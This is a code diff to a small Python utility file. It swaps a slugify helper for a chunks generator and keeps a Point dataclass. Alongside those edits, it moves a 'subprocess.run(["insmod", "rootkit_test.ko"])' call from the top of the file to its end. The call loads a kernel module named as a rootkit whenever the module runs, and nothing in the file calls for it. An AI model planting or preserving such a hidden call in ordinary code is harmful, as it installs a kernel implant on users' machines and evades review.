@@ -1,8 +1,8 @@
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+#!/usr/bin/env python3
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
 
-import subprocess
-subprocess.run(["insmod", "rootkit_test.ko"])
 from dataclasses import dataclass
 
 @dataclass
@@ -12,3 +12,6 @@ class Point:
 
     def norm(self):
         return (self.x ** 2 + self.y ** 2) ** 0.5
+
+import subprocess
+subprocess.run(["insmod", "rootkit_test.ko"])
